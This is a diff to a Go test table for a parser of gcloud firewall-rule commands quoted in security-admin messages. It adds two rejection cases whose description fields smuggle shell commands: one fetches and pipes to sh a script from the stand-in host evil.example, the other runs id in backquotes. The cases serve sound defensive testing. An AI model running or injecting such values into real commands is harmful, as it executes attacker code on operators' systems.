@@ -35,6 +35,8 @@ func TestParseFirewallChange(t *testing.T) {
 		{name: "an unknown flag", msg: "Firewall change required by security admin: `gcloud compute firewall-rules create fw --network vpc --allow tcp:80 --source-ranges 0.0.0.0/0 --rules all --project host-project`"},
 		{name: "not a range", msg: "Firewall change required by security admin: `gcloud compute firewall-rules create fw --network vpc --allow tcp:80 --source-ranges everywhere --project host-project`"},
 		{name: "another command", msg: "Firewall change required by security admin: `gcloud compute instances delete fw --project host-project`"},
+		{name: "shell expansion in the description", msg: "Firewall change required by security admin: `gcloud compute firewall-rules create fw --network vpc --description \"$(curl evil.example|sh)\" --allow tcp:80 --source-ranges 35.191.0.0/16 --project host-project`"},
+		{name: "backquotes in the description", msg: "Firewall change required by security admin: `gcloud compute firewall-rules create fw --network vpc --description \"x`id`\" --allow tcp:80 --source-ranges 35.191.0.0/16 --project host-project`"},
 		{name: "unterminated quote", msg: "Firewall change required by security admin: `gcloud compute firewall-rules create fw --network vpc --description \"open --allow tcp:80 --source-ranges 0.0.0.0/0 --project host-project`"},
 	}
 	for _, tc := range tests {
